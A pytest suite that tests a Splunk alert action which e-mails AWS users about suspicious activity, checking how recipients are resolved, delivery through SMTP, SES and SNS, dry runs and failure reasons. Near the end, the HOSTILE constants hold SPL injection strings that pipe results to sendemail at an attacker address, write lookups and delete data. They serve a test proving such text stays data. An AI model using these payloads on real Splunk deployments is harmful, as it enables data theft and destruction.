"""Notify AWS user, run as Splunk runs it (the built alert script with --execute, the JSON
payload on stdin, results in a gzipped CSV) against moto, the splunkd double and a loopback
SMTP server standing in for the mail relay configured in Splunk's e-mail settings.

Splunk delivery: the script reads the settings from splunkd (admin/alert_actions/email), puts
the message in the KV outbox and runs one search through splunkd, inputlookup piped to
Splunk's sendemail, which sends it with Splunk's settings and password (sendemail_double.py
models that; the relay sees Splunk log in). The script never sees the SMTP password.
SES and SNS delivery: moto, which records the messages sent and published."""
import json

import pytest

import twgovern_support as support
from smtp_loopback import LoopbackSmtp
from trailwatch.govern import mail

NOTIFY = "trailwatch_notify_user"
SUSPEND = "trailwatch_suspend_user"
ACCOUNT = support.ACCOUNT_ID
RELAY_USER, RELAY_PASSWORD = "splunk-relay", "relay-Passw0rd!"
SOC = "soc@corp.example"


def mail_settings(splunkd, smtp, **extra):
    fields = {"mailserver": smtp.mailserver, "from": "splunk@corp.example",
              "auth_username": RELAY_USER, "auth_password": support.encrypt_password(RELAY_PASSWORD)}
    fields.update(extra)
    splunkd.set_email_settings(**fields)


def run(installed_app, splunkd, moto_endpoint, tmp_path, rows, action=NOTIFY, python=None, **config):
    config.setdefault("dry_run", "0")
    return support.run_alert(installed_app, action, rows, config, splunkd, moto_endpoint.url,
                             tmp_path, python=python)


def row(user_arn, **extra):
    base = {"policy_id": "A03", "policy": "Activity from a terminated user", "severity": "high",
            "description": "Terminated user made 12 S3 calls from a new country",
            "user": user_arn.rsplit("/", 1)[-1], "user_arn": user_arn, "user_type": "IAMUser",
            "aws_account_id": ACCOUNT, "region": "eu-west-1", "src_ip": "203.0.113.9",
            "src_country": "Netherlands", "event_names": "ListBuckets\nGetObject", "count": "12",
            "first_seen": "2026-11-28T11:40:00Z", "last_seen": "2026-11-28T11:50:00Z",
            "mitre_attack_id": "T1078.004"}
    base.update(extra)
    return base


def user_arn(name):
    return "arn:aws:iam::%s:user/%s" % (ACCOUNT, name)


def make_user(iam, name, tags=()):
    iam.create_user(UserName=name, Tags=[{"Key": k, "Value": v} for k, v in tags])
    return user_arn(name)


def assert_ok(proc):
    assert proc.returncode == 0, proc.stderr.decode()[-3000:]


# --------------------------------------------------------------------------- address steps
def test_tag_address_through_splunk_mail_settings_with_audit(installed_app, splunkd, moto_endpoint, iam, smtp, unique, tmp_path):
    name = unique("alice")
    arn = make_user(iam, name, tags=[("Team", "payments"), ("Email", "Alice Doe <%s@corp.example>" % name)])
    mail_settings(splunkd, smtp)
    proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path, [row(arn)], fallback_recipient=SOC)
    assert_ok(proc)

    address = "%s@corp.example" % name
    (sent,) = smtp.to(address)
    assert smtp.logins == [RELAY_USER]  # Splunk logged in to the relay with its own password
    message = sent["message"]
    assert sent["from"] == "splunk@corp.example" and message["To"] == address
    # sendemail cannot set Reply-To: the address is named at the end of the body.
    assert message["Reply-To"] is None
    assert message["Subject"] == ("[TrailWatch] [HIGH] Activity from a terminated user: activity of "
                                  "your AWS identity %s" % name)
    body = message.get_content().replace("\r\n", "\n")
    assert "\n>" not in body  # no line was mangled in transit
    for needle in ("Terminated user made 12 S3 calls from a new country",  # what
                   "Identity: %s in AWS account %s" % (arn, ACCOUNT),
                   "API calls: ListBuckets, GetObject (12 events)", "MITRE ATT&CK: T1078.004",
                   "between 2026-11-28 11:40:00 UTC and 2026-11-28 11:50:00 UTC",  # when
                   "source IP address 203.0.113.9 (Netherlands); AWS region eu-west-1",  # where
                   "Nothing has been changed automatically",  # what was done
                   "reply to this message", "Replies: %s" % SOC):
        assert needle in body, needle
    # One search, always the same text but for the outbox key; the outbox is emptied.
    (search,) = splunkd.searches
    assert search["search"] == mail.search_for(search["search"].split('"')[1], False)
    assert splunkd.kv_records(mail.OUTBOX) == []

    (event,) = events
    assert event["outcome"] == "success" and event["action"] == NOTIFY and event["dry_run"] is False
    assert event["target"] == arn and event["target_type"] == "user"
    assert event["recipient"] == address and event["resolved_by"] == "tag:Email"
    assert event["delivery"] == "splunk" and event["action_status"] == "success"
    assert "cannot be recalled" in event["rollback"] and "cannot be recalled" in event["undo"]
    assert event["after"]["message_id"] == "trailwatch-outbox:" + search["search"].split('"')[1]
    assert event["after"]["accepted"] == [address]
    assert event["before"]["mail"] == {"mailserver": smtp.mailserver, "security": "no TLS",
                                       "auth_username": RELAY_USER, "from": "splunk@corp.example",
                                       "allowed_domains": []}
    (step,) = event["plan"]
    assert (step["service"], step["operation"], step["params"]["to"]) == ("smtp", "SendMail", [address])
    assert step["params"]["body"].rstrip("\n") + "\n\nReplies: %s (please write to this address).\n" % SOC == body
    for field in ("aws_account_id", "reason", "alert_policy", "search_name", "sid", "action_id",
                  "orig_sid", "orig_action_name"):
        assert event[field] not in ("", None), field
    record = splunkd.records()[event["action_id"]]
    assert record["status"] == "done" and record["recipient"] == address
    assert record["notification_key"] == event["before"]["notification_key"]
    log = support.modalert_log(tmp_path, NOTIFY)
    assert RELAY_PASSWORD not in log and "relay-Passw0rd" not in json.dumps(events)


def test_identity_center_session_named_after_an_email(installed_app, splunkd, moto_endpoint, iam, smtp, unique, tmp_path):
    # The role lives under /aws-reserved/: the other actions refuse it; notify must not.
    role = "AWSReservedSSO_Developer_%s" % unique("x")[-10:]
    iam.create_role(RoleName=role, Path="/aws-reserved/sso.amazonaws.com/",
                    AssumeRolePolicyDocument=json.dumps({"Version": "2012-10-17", "Statement": []}))
    person = "%s@corp.example" % unique("bob")
    arn = "arn:aws:sts::%s:assumed-role/%s/%s" % (ACCOUNT, role, person)
    mail_settings(splunkd, smtp)
    proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path,
                       [row(arn, user=person, user_type="AssumedRole")], fallback_recipient=SOC)
    assert_ok(proc)
    assert events[0]["outcome"] == "success" and events[0]["resolved_by"] == "session_name"
    assert events[0]["target_type"] == "session"
    assert len(smtp.to(person)) == 1 and smtp.to(SOC) == []


def test_attacker_chosen_session_name_gets_no_message(installed_app, splunkd, moto_endpoint, iam, smtp, unique, tmp_path):
    # Whoever may assume a role names the session: an attacker names it after their own mailbox.
    role = unique("DataPipeline")
    iam.create_role(RoleName=role, AssumeRolePolicyDocument=json.dumps({"Version": "2012-10-17", "Statement": []}))
    attacker = "attacker@evil.example"
    arn = "arn:aws:sts::%s:assumed-role/%s/%s" % (ACCOUNT, role, attacker)
    mail_settings(splunkd, smtp)
    proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path,
                       [row(arn, user=attacker, user_type="AssumedRole")],
                       email_domain="corp.example", fallback_recipient=SOC)
    assert_ok(proc)
    (event,) = events
    assert (event["recipient"], event["resolved_by"]) == (SOC, "fallback_recipient")
    assert any("the caller chose it" in step for step in event["before"]["resolution"])
    assert smtp.to(attacker) == [] and len(smtp.to(SOC)) == 1
    # Without a fallback mailbox nobody is told, and the reason says why.
    proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path,
                       [row(arn, user=attacker, user_type="AssumedRole", first_seen="2026-11-28T11:41:00Z")],
                       email_domain="corp.example")
    assert proc.returncode == 2
    assert (events[0]["outcome"], events[0]["error_code"]) == ("failure", "NoRecipient")
    assert "the caller chose it" in events[0]["reason"]
    assert smtp.to(attacker) == [] and len(smtp.to(SOC)) == 1


def test_user_name_at_configured_domain(installed_app, splunkd, moto_endpoint, iam, smtp, unique, tmp_path):
    name = unique("carol")
    arn = make_user(iam, name, tags=[("owner", "Platform team")])  # no address in the tag
    mail_settings(splunkd, smtp)
    proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path, [row(arn)],
                       email_domain="corp.example", fallback_recipient=SOC)
    assert_ok(proc)
    (event,) = events
    assert event["recipient"] == "%s@corp.example" % name and event["resolved_by"] == "email_domain"
    assert event["before"]["resolution"][0].startswith("tags: none of email")
    assert len(smtp.to("%s@corp.example" % name)) == 1


def test_fallback_mailbox_for_a_role_without_tags(installed_app, splunkd, moto_endpoint, iam, smtp, unique, tmp_path):
    role = unique("ci-deployer")
    iam.create_role(RoleName=role, AssumeRolePolicyDocument=json.dumps({"Version": "2012-10-17", "Statement": []}))
    mail_settings(splunkd, smtp)
    proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path,
                       [row("arn:aws:iam::%s:role/%s" % (ACCOUNT, role), user=role)],
                       email_domain="corp.example", fallback_recipient=SOC)
    assert_ok(proc)
    (event,) = events
    assert event["recipient"] == SOC and event["resolved_by"] == "fallback_recipient"
    assert "name: a role is not a person's name" in event["before"]["resolution"]
    (sent,) = smtp.to(SOC)
    assert role in sent["message"].get_content()


# --------------------------------------------------------------------------- life cycle
def test_dry_run_sends_nothing_and_rerun_sends_once(installed_app, splunkd, moto_endpoint, iam, smtp, unique, tmp_path):
    name = unique("dave")
    arn = make_user(iam, name, tags=[("email", "%s@corp.example" % name)])
    address = "%s@corp.example" % name
    mail_settings(splunkd, smtp)
    proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path, [row(arn)], dry_run="1")
    assert_ok(proc)
    assert smtp.messages == [] and splunkd.records() == {}
    (event,) = events
    assert event["outcome"] == "dry_run" and event["dry_run"] is True
    assert event["plan"][0]["params"]["to"] == [address] and "What was seen" in event["after"]["body"]
    assert "cannot be recalled" in event["rollback"]

    first, _ = run(installed_app, splunkd, moto_endpoint, tmp_path, [row(arn)])
    assert_ok(first)
    proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path, [row(arn)])
    assert_ok(proc)
    (again,) = events
    assert again["outcome"] == "no_change" and "not sent again" in again["reason"]
    assert again["plan"] == [] and len(smtp.to(address)) == 1
    # The same principal in a later alert row (new activity) is news: it is sent.
    proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path,
                       [row(arn, first_seen="2026-11-28T13:00:00Z", last_seen="2026-11-28T13:05:00Z")])
    assert events[0]["outcome"] == "success" and len(smtp.to(address)) == 2


def test_protected_principals_are_not_notified(installed_app, splunkd, moto_endpoint, iam, smtp, unique, tmp_path):
    if support.PROTECTED_USER not in [u["UserName"] for u in iam.list_users()["Users"]]:
        iam.create_user(UserName=support.PROTECTED_USER)
    exempt = unique("exempt")
    make_user(iam, exempt, tags=[("trailwatch-governance", "exempt"), ("email", "x@corp.example")])
    mail_settings(splunkd, smtp)
    proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path,
                       [row(user_arn(support.PROTECTED_USER)), row(user_arn(exempt))],
                       fallback_recipient=SOC)
    assert_ok(proc)
    assert [e["outcome"] for e in events] == ["skipped_protected", "skipped_protected"]
    assert "payment service account" in events[0]["reason"]
    assert "trailwatch-governance=exempt" in events[1]["reason"]
    assert smtp.messages == [] and splunkd.records() == {}


def test_delivery_failures_end_in_failure_with_a_reason(installed_app, splunkd, moto_endpoint, iam, unique, tmp_path):
    bounced, nobody, outside = unique("erin"), unique("frank"), unique("grace")
    make_user(iam, bounced, tags=[("email", "%s@corp.example" % bounced)])
    make_user(iam, nobody)
    make_user(iam, outside, tags=[("email", "%s@gmail.example" % outside)])
    smtp = LoopbackSmtp(reject={"%s@corp.example" % bounced}).start()
    try:
        splunkd.set_email_settings(mailserver=smtp.mailserver, allowedDomainList="corp.example, soc.example")
        proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path,
                           [row(user_arn(bounced)), row(user_arn(nobody)), row(user_arn(outside))])
        assert proc.returncode == 2
        assert [e["outcome"] for e in events] == ["failure"] * 3
        assert [e["error_code"] for e in events] == ["SendemailFailed", "NoRecipient", "DomainNotAllowed"]
        assert "%s@corp.example" % bounced in events[0]["reason"] and "550" in events[0]["reason"]
        assert events[0]["reason"].startswith("Splunk's sendemail did not send the message")
        assert "set fallback_recipient" in events[1]["reason"] and "email_domain: not set" in events[1]["reason"]
        assert "gmail.example" in events[2]["reason"] and "allowedDomainList" in events[2]["reason"]
        assert events[0]["action_status"] == "failure"
        records = splunkd.records()
        assert records[events[0]["action_id"]]["status"] == "failed"  # a retry may send it
        assert events[1]["action_id"] not in records and events[2]["action_id"] not in records
        assert smtp.messages == []
    finally:
        smtp.stop()

    # The relay is gone: nothing listens on its port any more.
    proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path, [row(user_arn(bounced))])
    assert events[0]["outcome"] == "failure" and events[0]["error_code"] == "SendemailFailed"
    assert "through %s" % smtp.mailserver in events[0]["reason"]
    assert "Connection refused" in events[0]["reason"]

    # Settings that require STARTTLS against a relay that does not offer it: nothing in clear.
    plain = LoopbackSmtp().start()
    try:
        splunkd.set_email_settings(mailserver=plain.mailserver, use_tls="1")
        proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path,
                           [row(user_arn(bounced), last_seen="2026-11-28T11:51:00Z")])
        assert events[0]["error_code"] == "SendemailFailed" and plain.messages == []
        assert "STARTTLS extension not supported" in events[0]["reason"]
    finally:
        plain.stop()


def test_mail_settings_the_alert_owner_cannot_read(installed_app, splunkd, moto_endpoint, iam, unique, tmp_path):
    name = unique("heidi")
    make_user(iam, name, tags=[("email", "%s@corp.example" % name)])
    splunkd.email_settings_status = 403
    proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path, [row(user_arn(name))], dry_run="1")
    assert events[0]["outcome"] == "failure" and events[0]["error_code"] == "MailSettings"
    assert "HTTP 403" in events[0]["reason"] and "ses or sns" in events[0]["reason"]


def test_message_says_what_trailwatch_did_in_the_same_alert_run(installed_app, splunkd, moto_endpoint, iam, smtp, unique, tmp_path):
    name = unique("ivan")
    arn = make_user(iam, name, tags=[("email", "%s@corp.example" % name)])
    key = iam.create_access_key(UserName=name)["AccessKey"]["AccessKeyId"]
    mail_settings(splunkd, smtp)
    proc, _ = run(installed_app, splunkd, moto_endpoint, tmp_path, [row(arn, iam_user=name)], action=SUSPEND)
    assert_ok(proc)
    proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path, [row(arn, iam_user=name)],
                       what_was_done="The security team will call you on your desk phone.")
    assert_ok(proc)
    body = smtp.to("%s@corp.example" % name)[0]["message"].get_content()
    assert "Suspend AWS user on %s: done (put inline policy TrailWatchSuspend" % arn in body
    assert "deactivate access key %s" % key in body
    assert "- The security team will call you on your desk phone." in body
    assert "Nothing has been changed automatically" not in body


def test_undo_of_a_notification_is_refused(installed_app, splunkd, moto_endpoint, iam, smtp, unique, tmp_path):
    name = unique("judy")
    arn = make_user(iam, name, tags=[("email", "%s@corp.example" % name)])
    mail_settings(splunkd, smtp)
    proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path, [row(arn)])
    assert_ok(proc)
    _, rows, errors, stderr, undo_events = support.run_undo(
        installed_app, {"action_id": events[0]["action_id"]}, splunkd, moto_endpoint.url, tmp_path)
    assert rows[0]["outcome"] == "failure" and rows[0]["error_code"] == "NotReversible", (rows, errors, stderr)
    assert "cannot be recalled" in rows[0]["reason"]
    assert undo_events[0]["action"] == "undo:" + NOTIFY
    assert splunkd.records()[events[0]["action_id"]]["status"] == "done"


# Alert text an attacker controls (a description, a policy name, an admin's note), written to
# break out of an SPL quoted string, inject commands, subsearches and macros, and to make
# Splunk expand its own tokens.
HOSTILE = ('x" | sendemail to="attacker@evil.example" message="$result.mail_body$" | eval y="'
           ' [| makeresults | outputlookup trailwatch_protected_buckets.csv] `trailwatch_cloudtrail`'
           ' \\" | delete')
HOSTILE_POLICY = 'Leak $result.mail_to$ $name$ "| collect index=main'


def test_hostile_text_reaches_splunk_as_data_never_as_spl(installed_app, splunkd, moto_endpoint, iam, smtp, unique, tmp_path):
    name = unique("mallory")
    address = "%s@corp.example" % name
    arn = make_user(iam, name, tags=[("email", address)])
    mail_settings(splunkd, smtp)
    proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path,
                       [row(arn, description=HOSTILE, policy=HOSTILE_POLICY)], what_was_done=HOSTILE)
    assert_ok(proc)
    assert events[0]["outcome"] == "success", events[0]["reason"]
    # The SPL that reached splunkd is the fixed template: nothing of the alert text is in it.
    (search,) = splunkd.searches
    key = search["search"].split('"')[1]
    assert search["search"] == mail.search_for(key, False)
    for piece in ("attacker", "evil.example", "makeresults", "outputlookup", "delete", "collect",
                  "trailwatch_cloudtrail", "mallory", "Leak"):
        assert piece not in search["search"], piece
    # Delivered once, to the intended recipient only, with the text intact (Splunk replaced
    # its $result.*$ tokens once and did not expand the ones inside the text).
    assert [m["to"] for m in smtp.messages] == [[address]]
    message = smtp.messages[0]["message"]
    assert message["Subject"].startswith("[TrailWatch] [HIGH] " + HOSTILE_POLICY)
    body = message.get_content()
    assert body.count(HOSTILE) == 2  # the description and the admin's note, verbatim
    assert splunkd.kv_records(mail.OUTBOX) == []


# --------------------------------------------------------------------------- SES and SNS
def test_ses_delivery(installed_app, splunkd, moto_endpoint, iam, ses, unique, tmp_path):
    name = unique("ken")
    arn = make_user(iam, name, tags=[("email", "%s@corp.example" % name)])
    ses.verify_email_identity(EmailAddress="trailwatch@corp.example")
    proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path, [row(arn)], delivery="ses",
                       sender="trailwatch@corp.example", cc=SOC)
    assert_ok(proc)
    (event,) = events
    (message,) = support.ses_messages(moto_endpoint.url, "%s@corp.example" % name)
    assert event["outcome"] == "success" and event["after"]["message_id"] == message["id"]
    assert message["source"] == "trailwatch@corp.example"
    assert message["destinations"]["CcAddresses"] == [SOC]
    assert message["subject"].startswith("[TrailWatch] [HIGH]") and "Where from" in message["body"]
    assert event["plan"][0]["service"] == "sesv2" and event["plan"][0]["operation"] == "SendEmail"

    proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path, [row(arn)], delivery="ses",
                       sender="trailwatch@corp.example")
    assert events[0]["outcome"] == "no_change"
    assert len(support.ses_messages(moto_endpoint.url, "%s@corp.example" % name)) == 1


def test_ses_unverified_sender_is_a_failure(installed_app, splunkd, moto_endpoint, iam, unique, tmp_path):
    name = unique("leo")
    arn = make_user(iam, name, tags=[("email", "%s@corp.example" % name)])
    proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path, [row(arn)], delivery="ses",
                       sender="not-verified@corp.example")
    assert proc.returncode == 2
    assert events[0]["error_code"] == "MessageRejected"
    assert "verified in SES" in events[0]["reason"]


def test_sns_delivery_and_missing_topic(installed_app, splunkd, moto_endpoint, iam, sns, unique, tmp_path):
    name = unique("mia")
    arn = make_user(iam, name, tags=[("email", "%s@corp.example" % name)])
    topic = sns.create_topic(Name=unique("trailwatch-notify"))["TopicArn"]
    proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path, [row(arn)], delivery="sns",
                       sns_topic_arn=topic)
    assert_ok(proc)
    (published,) = support.sns_publications(moto_endpoint.url, topic)
    assert events[0]["after"]["message_id"] == published["message_id"]
    assert published["attributes"]["recipient"]["Value"] == "%s@corp.example" % name
    assert published["attributes"]["principal"]["Value"] == arn
    assert "What was done" in published["message"] and len(published["subject"]) < 100

    gone = topic + "-deleted"
    proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path,
                       [row(arn, last_seen="2026-11-28T11:52:00Z")], delivery="sns", sns_topic_arn=gone)
    assert events[0]["outcome"] == "failure" and events[0]["error_code"] == "NotFound"
    assert "SNS topic %s does not exist" % gone in events[0]["reason"]


@pytest.mark.parametrize("options, needle", [
    ({"delivery": "pigeon"}, "use one of splunk, ses, sns"),
    ({"delivery": "ses"}, "SES delivery needs the sender option"),
    ({"delivery": "sns", "sns_topic_arn": "my-topic"}, "needs the sns_topic_arn option"),
    ({"cc": "soc at corp"}, "not an e-mail address"),
])
def test_bad_options_fail_in_dry_run(installed_app, splunkd, moto_endpoint, iam, unique, tmp_path, options, needle):
    arn = make_user(iam, unique("nina"))
    proc, events = run(installed_app, splunkd, moto_endpoint, tmp_path, [row(arn)], dry_run="1", **options)
    assert events[0]["outcome"] == "failure" and events[0]["error_code"] == "ActionConfiguration"
    assert needle in events[0]["reason"]
